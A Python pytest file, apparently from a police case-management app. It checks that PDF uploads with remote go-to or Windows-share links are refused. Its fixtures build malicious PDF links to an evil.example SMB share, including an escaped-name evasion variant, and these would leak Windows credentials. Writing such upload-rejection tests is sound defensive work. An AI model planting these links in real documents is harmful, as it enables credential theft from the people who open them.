"""PDF links that open a file rather than a web page: a remote go-to (GoToR) names another
document, and a link to a Windows share (\\\\host\\share) is a file: link without the scheme.
Opened in a desktop reader on a police workstation, either reaches out to the named host (and
Windows hands that host the user's credentials); they are refused like launches."""

import pytest

from outpost.cases.models import Attachment
from outpost.geo.models import Grid
from tests.cases.conftest import file_case
from tests.cases.pdfs import one_page
from tests.cases.test_attachments import LINK, upload
from tests.conftest import Persona

pytestmark = pytest.mark.django_db

OPENING_FILES = {
    "remote go-to on a link": one_page(
        b"", b"/Annots[4 0 R]", LINK % (b"GoToR", b"F", rb"\\\\evil.example\\share\\a.pdf")
    ),
    "remote go-to behind an escaped name": one_page(
        b"", b"/Annots[4 0 R]", LINK % (b"GoTo#52", b"F", b"smb://evil.example/a.pdf")
    ),
    "link to a Windows share": one_page(
        b"", b"/Annots[4 0 R]", LINK % (b"URI", b"URI", rb"\\\\evil.example\\share")
    ),
}


@pytest.mark.parametrize("kind", OPENING_FILES)
def test_it_refuses_pdf_links_that_open_files_elsewhere(
    kind: str, home_grid: Grid, grid_worker: Persona
) -> None:
    case = file_case(home_grid, grid_worker.user)
    answer = upload(grid_worker.client, case, ("协议.pdf", OPENING_FILES[kind]))
    assert answer.status_code == 422, (kind, answer.content)
    assert not Attachment.objects.exists()
